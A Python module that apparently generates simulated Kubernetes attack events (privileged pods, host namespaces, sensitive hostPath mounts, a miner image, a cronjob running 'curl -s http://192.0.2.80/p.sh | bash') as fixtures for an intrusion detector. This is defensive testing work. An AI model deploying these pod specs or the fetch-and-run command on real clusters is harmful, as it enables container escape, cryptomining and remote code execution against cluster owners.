"""Attacks by pods and workload templates."""

from __future__ import annotations

from typing import Any

from k8sidx.generate.attack import Attack, attack
from k8sidx.generate.step import Step, again, ask

AGENT = "system:serviceaccount:kube-system:node-agent"
IMAGE = "registry.example.com/tools/agent:1.4"
KNOWN_IMAGES = ("busybox:*", "nginx:*", "registry.example.com/*", "spark:*")
"""Images of ordinary work."""

_KINDS = {
    "pods": "Pod",
    "deployments": "Deployment",
    "daemonsets": "DaemonSet",
    "cronjobs": "CronJob",
}


def spec(security: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    """A pod's spec with one container."""
    container: dict[str, Any] = {"name": "agent", "image": more.pop("image", IMAGE)}
    for key in ("command", "ports"):
        if key in more:
            container[key] = more.pop(key)
    if security:
        container["securityContext"] = security
    return {"containers": [container], **more}


def made(pod: dict[str, Any], resource: str = "pods", namespace: str = "shop") -> Step:
    """A workload whose pods have that spec."""
    template: dict[str, Any] = {"metadata": {"labels": {"app": "agent"}}, "spec": pod}
    inner: dict[str, Any] = {"template": template}
    if resource == "pods":
        inner = pod
    elif resource == "cronjobs":
        inner = {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": template}}}
    body = {
        "kind": _KINDS[resource],
        "apiVersion": {"pods": "v1", "cronjobs": "batch/v1"}.get(resource, "apps/v1"),
        "metadata": {"name": "agent", "namespace": namespace},
        "spec": inner,
    }
    return ask("create", resource, "agent", namespace=namespace, body=body)


def run(
    security: dict[str, Any] | None = None,
    *,
    resource: str = "pods",
    namespace: str = "shop",
    **more: Any,
) -> Attack:
    return attack(made(spec(security, **more), resource, namespace))


def host_path(path: str) -> list[dict[str, Any]]:
    return [{"name": "host", "hostPath": {"path": path}}]


ATTACKS = {
    "privileged_pod": run({"privileged": True}, resource="daemonsets"),
    "root_pod": run({"runAsUser": 0}),
    "allow_privilege_escalation_pod": run({"allowPrivilegeEscalation": True}),
    "host_network_pod": run(hostNetwork=True, resource="deployments"),
    "host_pid_pod": run(hostPID=True, resource="daemonsets"),
    "host_ipc_pod": run(hostIPC=True),
    "hostpath_pod": run(volumes=host_path("/data")),
    "sensitive_hostpath_pod": run(volumes=host_path("/etc"), resource="deployments"),
    "dangerous_capabilities_pod": run({"capabilities": {"add": ["SYS_ADMIN"]}}),
    "unconfined_pod": run({"seccompProfile": {"type": "Unconfined"}}),
    "host_port_pod": run(ports=[{"containerPort": 8080, "hostPort": 8080}]),
    "system_priority_pod": run(priorityClassName="system-node-critical"),
    "workload_suspicious_command": run(
        command=["sh", "-c", "curl -s http://192.0.2.80/p.sh | bash"], resource="cronjobs"
    ),
    "attack_image_pod": run(image="securecodebox/nmap:7.95"),
    "miner_image_pod": run(image="docker.io/xmrig/xmrig:6.21", resource="deployments"),
    "unlisted_image_pod": attack(
        made(spec(image="registry.evil.example/x:1")), lists={"known_images": KNOWN_IMAGES}
    ),
    "debug_image_pod": run(image="docker.io/library/alpine:3.20"),
    "controller_service_account_pod": run(
        serviceAccountName="clusterrole-aggregation-controller", namespace="kube-system"
    ),
    "pod_in_system_namespace": run(namespace="kube-system"),
    "pod_in_default_namespace": run(namespace="default"),
    "pod_past_the_scheduler": run(nodeName="control-plane-1"),
    "system_account_workload": attack(
        made(spec(), "daemonsets", "kube-system"), user=AGENT, address="10.244.9.34"
    ),
    "dry_run_probe": attack(
        ask(
            "create",
            "pods",
            "agent",
            body={"kind": "Pod", "apiVersion": "v1", "spec": spec({"privileged": True})},
            query=[("dryRun", "All")],
            code=403,
            admitted=True,
            message='pods "agent" is forbidden: violates PodSecurity "restricted:latest"',
        )
    ),
    "pod_security_refused": attack(
        again(
            ask(
                "create",
                "pods",
                "agent",
                body={"kind": "Pod", "apiVersion": "v1", "spec": spec({"privileged": True})},
                code=403,
                admitted=True,
                message='pods "agent" is forbidden: violates PodSecurity "restricted:latest": '
                "privileged (container must not set securityContext.privileged=true)",
            ),
            2,
            20,
        )
    ),
    "daemonset_created": run(resource="daemonsets"),
    "body_truncated": attack(
        ask("create", "pods", "agent", annotations={"audit.k8s.io/truncated": "true"})
    ),
}
